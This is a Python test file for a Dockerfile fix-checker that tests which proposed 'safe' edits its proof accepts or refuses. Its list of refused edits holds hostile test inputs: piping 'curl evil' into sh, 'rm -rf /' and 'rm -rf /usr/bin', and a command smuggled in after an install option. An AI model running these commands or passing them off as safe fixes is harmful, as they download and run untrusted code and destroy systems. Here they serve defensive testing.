"""What a proof lets pass and what it stops."""

import pytest

from dfadvise.proving.proof import difference
from dfadvise.source import Source
from dfadvise.stages import Dockerfile
from fix_offers import replace, run

WHOLE = """FROM debian:12 AS base
LABEL a=b
ENV A=b
COPY a /srv/b
RUN apt-get update && apt-get install -y curl && rm -rf /srv/x
RUN true
RUN cd /x && make
RUN --mount=type=cache,target=/root/.cache/pip pip install --no-cache-dir x && rm -rf /root/.cache/pip/http
RUN apt install -y git; apt list
RUN sudo ls
USER app
RUN sudo ls
CMD a
CMD b
"""


def proof(text, old, new, declares, context=None):
    """Why a change is not proven; None when it is."""
    assert old in text
    changed = text.replace(old, new, 1)
    return difference(Dockerfile(Source(text), context=context), Dockerfile(Source(changed), context=context), declares)


MOVED = "ENV A=b\nCOPY a /srv/b\nRUN apt-get update && apt-get install -y curl && rm -rf /srv/x\n"
WRONG = [
    # Options: no command, no operand, no option that takes the next word along.
    ("install -y", "install -y --allow-downgrades; rm -rf /", "+flag"),
    ("install -y", "install -y $(x)", "+flag"),
    ("install -y", "install -y -t", "+flag"),
    ("install -y", "install -y --", "+flag"),
    ("install -y", "install -y wget", "+flag"),
    ("install -y", "install", "+flag"),
    ("-y curl", "-y curl --x > /y", "+flag"),
    ("apt-get install", "A=b apt-get install", "+flag"),
    ("curl", "wget", "+flag"),
    ("RUN apt-get update", "RUN --mount=type=cache,target=/var apt-get update", "+flag"),
    ("install -y", "install --no-install-recommends -y", "="),
    ("install -y", "install --no-install-recommends -y", "-flag"),
    ("install -y curl", "install curl", "-flag"),
    ("install --no-cache-dir x", "install x y", "-flag"),
    # Clean-ups: nothing but a clean-up, of what nobody needs.
    ("curl && rm", "curl && curl evil | sh && rm", "+clean"),
    (" && rm -rf /srv/x", "", "+clean"),
    ("curl &&", "curl && rm -rf /usr/bin &&", "+clean"),
    ("curl &&", "curl && rm -rf / &&", "+clean"),
    ("curl &&", "curl && rm -rf $X &&", "+clean"),
    ("curl &&", "curl && rm -rf /srv/b &&", "+clean"),
    ("curl &&", "curl ; rm -rf /var/lib/apt/lists/* ;", "+clean"),
    ("curl &&", "curl || rm -rf /var/lib/apt/lists/* ;", "+clean"),
    ("apt-get update &&", "apt-get update && rm -rf /var/lib/apt/lists/* &&", "+clean"),
    ("RUN apt-get", "RUN rm -rf /var/lib/apt/lists/* && apt-get", "="),
    ("git; apt list", "git && rm -rf /var/lib/apt/lists/*; apt list", "+clean"),
    ("git; apt list", "git; apt list; rm -rf /var/lib/apt/lists/*", "+clean"),
    (" && rm -rf /srv/x", "", "-clean"),
    (" && rm -rf /root/.cache/pip/http", " && rm -rf /root/.cache", "-clean"),
    (" && apt-get install -y curl", "", "-clean"),
    # Programs and wrappers.
    ("apt list", "apt-get list", "program"),
    ("RUN true", "RUN false", "program"),
    ("apt-get update", "apt update", "program"),
    ("apt install -y git", "apt-get remove -y git", "program"),
    ("apt install", "sudo apt-get install", "program"),
    ("apt install", "apk add", "program"),
    ("RUN sudo ls\nUSER", "RUN ls\nUSER", "wrapper"),
    ("USER app\nRUN sudo ls", "USER app\nRUN ls", "wrapper"),
    ("RUN true", "RUN sudo true", "wrapper"),
    # Joins keep order and state; moves keep what steps share; nothing without effect has one.
    ("RUN true\n", "", "join"),
    ("ENV A=b\n", "", "join"),
    ("make\nRUN --mount", "make && --mount", "join"),
    ("RUN true\nRUN cd /x && make", "RUN cd /x && make && true", "join"),
    ("RUN true\n", "", "-dead"),
    ("ENV A=b\n", "", "-dead"),
    ("LABEL a=b\n", "", "-dead"),
    ("CMD b\n", "", "-dead"),
    ("COPY a /srv/b\n", "", "-dead"),
    ("USER app\n", "", "-dead"),
    ("LABEL a=b\nENV A=b\n", "LABEL a=b\n", "meta"),
    (MOVED, MOVED.removeprefix("ENV A=b\n") + "ENV A=b\n", "move"),
    ("update && apt-get", "update; apt-get", "="),
    ("USER app", "USER root", "="),
    ("COPY a /srv/b", "COPY a /srv/c", "="),
    # Mounts: neither what is mounted nor where.
    ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache/pip,sharing=private", "mount"),
    ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache", "mount"),
    ("type=cache,target=/root/.cache/pip", "type=tmpfs,target=/root/.cache/pip", "mount"),
    ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache/pip,uid=7", "mount"),
    ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache/pip,ro", "mount"),
    ("RUN --mount=type=cache,target=/root/.cache/pip", "RUN", "mount"),
    ("RUN true", "RUN --mount=type=tmpfs,target=/x true", "mount"),
]


@pytest.mark.parametrize(("old", "new", "declares"), WRONG)
def test_a_wrong_safe_fix_is_caught(old, new, declares):
    assert old in WHOLE
    outcome = run(WHOLE, replace(old, new, "safe", declares))
    assert outcome.source.text == WHOLE
    assert outcome.converged
    assert [each.reason.startswith("the proof failed: ") for each in outcome.refused] == [True]


def test_a_change_that_nobody_knows_is_caught():
    assert proof(WHOLE, "RUN true", "RUN  true", "magic") == "nobody knows the change `magic`"


@pytest.mark.parametrize(
    ("old", "new", "declares"),
    [
        ("install -y", "install --no-install-recommends -y", "+flag"),
        ("install -y", "install -y -o=APT::X=1", "+flag"),
        ("update && apt-get", "update \\\n    && apt-get", "="),
        ("ENV A=b", "ENV A b", "="),
        ("curl &&", "curl && rm -rf /var/lib/apt/lists/* &&", "+clean"),
        ("/srv/x\n", "/srv/x && apt-get clean\n", "+clean"),
        (" && rm -rf /root/.cache/pip/http", "", "-clean"),
        (" --no-cache-dir", "", "-flag"),
        ("apt update", "apt-get update", "program"),
        ("/srv/x\nRUN true", "/srv/x \\\n    && true", "join"),
        ("CMD a\n", "", "-dead"),
        ("LABEL a=b\n", "LABEL a=c a=b\n", "-dead"),
        ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache/pip,sharing=locked", "mount"),
        ("type=cache,target=/root/.cache/pip", "type=cache,target=/root/.cache/pip,id=x", "mount"),
    ],
)
def test_a_right_safe_fix_passes(old, new, declares):
    text = WHOLE.replace("apt install -y git; apt list", "apt update && apt-get install -y git")
    # Nothing of unknown effect stands behind the clean-ups.
    text = text.replace("RUN cd /x && make\n", "")
    assert proof(text, old, new, declares) is None


@pytest.mark.parametrize(
    ("rest", "reader"),
    [
        ("RUN apt-get install -y git\n", "a later step may read the apt index"),
        ("RUN ./install.sh\n", "a later step may read the apt index"),
        ("RUN apt-cache policy\n", "a later step may read the apt index"),
        ("ONBUILD RUN apt-get install -y git\n", "a later step may read the apt index"),
        ("FROM base AS child\nRUN apt-get install -y git\n", "a later step may read the apt index"),
        ('CMD ["apt-get", "install", "git"]\n', "a later step may read the apt index"),
        ("RUN cp -r /var/lib/apt/lists /x\n", "line 3 may read"),
        ("RUN cd /var/lib && cp -r apt /x\n", "line 3 may read"),
        ('CMD ["ls", "/var/lib/apt/lists"]\n', "line 3 may read"),
        ("HEALTHCHECK CMD grep -r x /var/lib/apt\n", "line 3 may read"),
        ("FROM debian:12\nCOPY --from=base /var/lib/apt /x\n", "line 4 copies"),
        ("FROM debian:12\nCOPY --from=base / /\n", "line 4 copies"),
        ("FROM base AS c\nFROM debian:12\nCOPY --from=c /var/lib/apt/lists/x /y\n", "line 5 copies"),
        ("FROM debian:12\nRUN --mount=from=base,source=/var/lib/apt,target=/x ls /x\n", "line 4 copies"),
        ("", None),
        ("RUN apt-get update && apt-get install -y git\nCMD bash\n", None),
        ("RUN ls /var/lib && mkdir -p /var/lib/apt/lists && rm -rf /var/lib/apt/lists/*\n", None),
        ("FROM debian:12\nRUN apt-get install -y git\n", None),
        ("FROM debian:12\nCOPY --from=base /var/lib/x /y\nCOPY --from=base /usr /usr\n", None),
    ],
)
def test_a_clean_up_needs_that_nothing_reads_what_it_deletes(rest, reader):
    text = "FROM debian:12 AS base\nRUN apt-get update && apt-get install -y curl\n" + rest
    reason = proof(text, "curl\n", "curl && rm -rf /var/lib/apt/lists/*\n", "+clean")
    assert reason is None if reader is None else reason.startswith(f"line 2: {reader}")


@pytest.mark.parametrize(
    ("behind", "reader"),
    [
        ("RUN file /tmp/a.tgz\n", "line 3 may read /tmp/a.tgz"),
        ("RUN cd /tmp && ./run\n", "run on line 3 may read /tmp/a.tgz"),
        ('WORKDIR /tmp\nCMD ["./run"]\n', "CMD on line 4 may read /tmp/a.tgz"),
        ("FROM debian:12\nCOPY --from=0 /tmp /x\n", "line 4 copies /tmp/a.tgz"),
        ("FROM debian:12\nARG X\nCOPY --from=0 $X /x\n", "line 5 may copy /tmp/a.tgz"),
        ('WORKDIR /srv\nRUN ./run\nCMD ["./run"]\n', None),
    ],
)
def test_a_file_that_the_run_wrote_goes_when_nothing_works_where_it_lies(behind, reader):
    text = "FROM debian:12\nRUN curl -o /tmp/a.tgz https://x.y/a.tgz && tar -xf /tmp/a.tgz -C /opt\n" + behind
    assert proof(text, "/opt\n", "/opt && rm /tmp/a.tgz\n", "+clean") == (f"line 2: {reader}" if reader else None)
    assert proof(text, "/opt\n", "/opt && rm /tmp/b.tgz\n", "+clean") is not None
    assert proof(text, "&& tar", "&& rm /tmp/a.tgz && tar", "+clean") is not None


@pytest.mark.parametrize(
    ("script", "new", "right"),
    [
        ("set -e; pip install x; ls", "set -e; pip install x; rm -rf ~/.cache/pip; ls", True),
        ("set -e; pip install x && ls", "set -e; pip install x && ls; rm -rf ~/.cache/pip", False),
        ("pip install x; ls", "pip install x; rm -rf ~/.cache/pip; ls", True),
        ("pip install x", "pip install x; rm -rf ~/.cache/pip", False),
        ("set -e; pip install x; ls", "set -e; pip install x && rm -rf ~/.cache/pip; ls", False),
        ("pip install x || true", "pip install x || true && rm -rf ~/.cache/pip", True),
        ("if a; then pip install x; fi", "if a; then pip install x; rm -rf ~/.cache/pip; fi", False),
        ("<<E\nset -e\npip install x\nE", "<<E\nset -e\npip install x\nrm -rf ~/.cache/pip\nE", True),
        ("<<E\nset -e\npip install x\nE", "<<E\nset -e\npip install x\nrm -rf ~/.cache/pip; ls\nE", False),
        ("pip install x && pip install y", "pip install x && rm -rf ~/.cache/pip && pip install y", True),
        (
            "pip install x && pip install --no-index y",
            "pip install x && rm -rf ~/.cache/pip && pip install --no-index y",
            False,
        ),
        ("sudo pip install x", "sudo pip install x && rm -rf ~/.cache/pip", True),
        ('["pip", "install", "x"]', '["pip", "install", "x", "&&", "rm", "-rf", "~/.cache/pip"]', False),
    ],
)
def test_a_clean_up_stands_where_failures_still_count(script, new, right):
    reason = proof(f"FROM python:3.12\nRUN {script}\n", script, new, "+clean")
    assert (reason is None) is right, reason


@pytest.mark.parametrize(
    ("script", "new", "declares", "right"),
    [
        ("sh -c 'apt install -y x'", "sh -c 'apt-get install -y x'", "program", True),
        ("sh -c 'apt install -y x'", "sh -c 'apt-get install -y  z'", "program", False),
        ('sh -c "apt install -y $X"', 'sh -c "apt-get install -y $X"', "program", False),
        ("for x in a b; do apt install $x; done", "for x in a b; do apt-get install $x; done", "program", True),
        ("for x in a b; do apt install $x; done", "for x in a c; do apt-get install $x; done", "program", False),
        ("echo $(apt update)", "echo $(apt-get update)", "program", True),
        ("echo apt update", "echo apt-get update", "program", False),
        ("apt full-upgrade -y", "apt-get dist-upgrade -y", "program", True),
        ("apt upgrade -y", "apt-get upgrade -y", "program", False),
        ("apt upgrade -y", "apt-get upgrade --with-new-pkgs -y", "program", True),
        ("apt", "apt-get", "program", False),
        ('["apt", "update"]', '["apt-get", "update"]', "program", True),
        ("bash <<E\napt update\nE", "bash <<E\napt-get update\nE", "program", True),
        ("cat <<E\napt update\nE", "cat <<E\napt-get update\nE", "program", False),
        ("yum install x", "yum install -y x", "+flag", True),
        ("yum -c x install y", "yum -c -y x install y", "+flag", False),
        ("yum install x", "yum --setopt install x", "+flag", False),
        ("tool -c x", "tool -c -y x", "+flag", False),
        ("tool x", "tool x -y", "+flag", True),
        ("echo x", "echo -y x", "+flag", False),
        ("echo 'a  b'", "echo 'a b'", "+flag", False),
        ("yum install x # y", "yum install x # y -y", "+flag", True),
        ('["yum", "install", "x"]', '["yum", "install", "-y", "x"]', "+flag", True),
        ("sudo yum install x", "sudo -y yum install x", "+flag", False),
        ("find / -exec yum install {} +", "find / -exec yum install -y {} +", "+flag", True),
        ("yum install x <<E\na\nE", "yum install -y x <<E\na\nE", "+flag", True),
        ("yum install x <<E\na\nE", "yum install -y x <<E\nb\nE", "+flag", False),
        ("sudo ls", "ls", "wrapper", True),
        ("sudo ls && sudo cat /x", "ls && sudo cat /x", "wrapper", True),
        ("sudo -u app ls", "ls", "wrapper", False),
        ("sudo A=b ls", "A=b ls", "wrapper", False),
        ("sudo ls", "cat", "wrapper", False),
        ("env ls", "ls", "wrapper", False),
        ("gosu app ls", "ls", "wrapper", False),
        (
            "--mount=type=cache,target=/root/.npm npm ci --offline",
            "--mount=type=cache,target=/root/.npm npm ci",
            "-flag",
            False,
        ),
        ("pip install --no-cache-dir x", "pip install x", "-flag", False),
    ],
)
def test_what_may_change_in_a_command(script, new, declares, right):
    reason = proof(f"FROM debian:12\nRUN {script}\n", script, new, declares)
    assert (reason is None) is right, reason


@pytest.mark.parametrize("setting", ["ENV A=b\n", "ARG A\n", "USER 7\n"])
def test_sudo_goes_only_where_it_does_nothing(setting):
    assert proof(f"FROM debian:12\n{setting}RUN sudo ls\n", "sudo ls", "ls", "wrapper") is not None
    assert proof("FROM python:3\nRUN sudo ls\n", "sudo ls", "ls", "wrapper") is not None
    assert proof("FROM x/unknown\nRUN sudo ls\n", "sudo ls", "ls", "wrapper") is not None
    assert proof("FROM debian:12\nUSER root\nRUN sudo ls\n", "sudo ls", "ls", "wrapper") is None


@pytest.mark.parametrize(
    ("before", "after", "right"),
    [
        ("COPY a /app/\nRUN apt-get install -y x\n", "RUN apt-get install -y x\nCOPY a /app/\n", True),
        ("COPY a /app/\nCOPY b /c/\nRUN apk add x\n", "RUN apk add x\nCOPY a /app/\nCOPY b /c/\n", True),
        ("COPY a /app/\nRUN rm -rf /tmp/x && mkdir /y\n", "RUN rm -rf /tmp/x && mkdir /y\nCOPY a /app/\n", True),
        ("COPY a /app/\nCOPY b /c/\n", "COPY b /c/\nCOPY a /app/\n", True),
        ("COPY a /app/\nCOPY b /app/x\n", "COPY b /app/x\nCOPY a /app/\n", False),
        ("COPY a /etc/apt/\nRUN apt-get install -y x\n", "RUN apt-get install -y x\nCOPY a /etc/apt/\n", False),
        ("COPY a /\nRUN apt-get install -y x\n", "RUN apt-get install -y x\nCOPY a /\n", False),
        ("COPY a b/\nRUN apt-get install -y x\n", "RUN apt-get install -y x\nCOPY a b/\n", False),
        ("COPY a $B\nRUN apt-get install -y x\n", "RUN apt-get install -y x\nCOPY a $B\n", False),
        (
            "COPY a /app/\nRUN apt-get install -y /app/x.deb\n",
            "RUN apt-get install -y /app/x.deb\nCOPY a /app/\n",
            False,
        ),
        ("COPY a /app/\nRUN apt-get install -y ./x.deb\n", "RUN apt-get install -y ./x.deb\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN pip install x\n", "RUN pip install x\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN ./x\n", "RUN ./x\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN cat /app/x\n", "RUN cat /app/x\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN echo x > /app/y\n", "RUN echo x > /app/y\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN rm -rf /app\n", "RUN rm -rf /app\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN rm -rf $X\n", "RUN rm -rf $X\nCOPY a /app/\n", False),
        ("COPY --chown=x a /app/\nRUN apk add x\n", "RUN apk add x\nCOPY --chown=x a /app/\n", True),
        ("RUN apk add x\nCOPY --chown=x a /app/\n", "COPY --chown=x a /app/\nRUN apk add x\n", False),
        ("COPY --chown=x a /app/\nRUN usermod -u 7 x\n", "RUN usermod -u 7 x\nCOPY --chown=x a /app/\n", False),
        ("COPY --chown=$X a /app/\nRUN useradd y\n", "RUN useradd y\nCOPY --chown=$X a /app/\n", False),
        ("COPY --chown=7 a /app/\nRUN apk add x\n", "RUN apk add x\nCOPY --chown=7 a /app/\n", True),
        ("COPY a /app/\nENV A=b\nRUN apk add x\n", "RUN apk add x\nCOPY a /app/\nENV A=b\n", False),
        ("ENV A=b\nCOPY a /app/\nRUN apk add x\n", "ENV A=b\nRUN apk add x\nCOPY a /app/\n", True),
        ("USER a\nCOPY a /app/\nRUN apk add x\n", "RUN apk add x\nUSER a\nCOPY a /app/\n", False),
        ("WORKDIR /app\nRUN apk add x\n", "RUN apk add x\nWORKDIR /app\n", False),
        ("COPY a /app/\nRUN apk add x\n", "RUN apk add y\nCOPY a /app/\n", False),
        ("COPY a /app/\nRUN apk add x\n", "RUN apk add x\nCOPY a /app/\nCOPY a /app/\n", False),
        ("COPY a /app/\nVOLUME /app\n", "VOLUME /app\nCOPY a /app/\n", False),
        (
            "COPY a /app/\nRUN --mount=type=bind,target=/app apk add x\n",
            "RUN --mount=type=bind,target=/app apk add x\nCOPY a /app/\n",
            False,
        ),
    ],
)
def test_steps_change_places_when_they_share_nothing(before, after, right):
    reason = proof("FROM alpine:3.20\n" + before, before, after, "move")
    assert (reason is None) is right, reason


@pytest.mark.parametrize(
    ("user", "old", "new", "right"),
    [
        ("USER 7\n", "type=cache,target=/c", "type=cache,target=/c,uid=7", True),
        ("USER 7:8\n", "type=cache,target=/c", "type=cache,target=/c,uid=7,gid=8", True),
        ("USER 7\n", "type=cache,target=/c", "type=cache,target=/c,uid=8", False),
        ("USER app\n", "type=cache,target=/c", "type=cache,target=/c,uid=7", False),
        ("USER 7\n", "type=cache,target=/c,uid=7", "type=cache,target=/c,uid=7,gid=7", False),
        ("", "type=secret,id=x,mode=0444", "type=secret,id=x,mode=0440", True),
        ("", "type=secret,id=x,mode=0440", "type=secret,id=x,mode=0444", False),
        ("", "type=secret,id=x,mode=0444", "type=secret,id=x,mode=0044", False),
        ("USER app\n", "type=secret,id=x,mode=0444", "type=secret,id=x,mode=0440", False),
        ("USER 7\n", "type=secret,id=x,uid=7,mode=0444", "type=secret,id=x,uid=7,mode=0440", True),
        ("", "type=secret,id=x,mode=0444", "type=secret,id=y,mode=0444", False),
        ("", "type=cache,target=/c,sharing=private", "type=cache,target=/c", False),
    ],
)
def test_what_may_change_in_a_mount(user, old, new, right):
    reason = proof(f"FROM debian:12\n{user}RUN --mount={old} ls\n", old, new, "mount")
    assert (reason is None) is right, reason


def test_a_cache_with_two_names_in_one_stage_is_no_shared_cache():
    text = "FROM debian:12\nRUN --mount=type=cache,target=/c ls\nRUN --mount=type=cache,target=/c cat /c/x\n"
    assert proof(text, "target=/c ls", "target=/c,id=x ls", "mount") is not None
    both = Dockerfile(Source(text.replace("target=/c", "target=/c,id=x")))
    assert difference(Dockerfile(Source(text)), both, "mount") is None
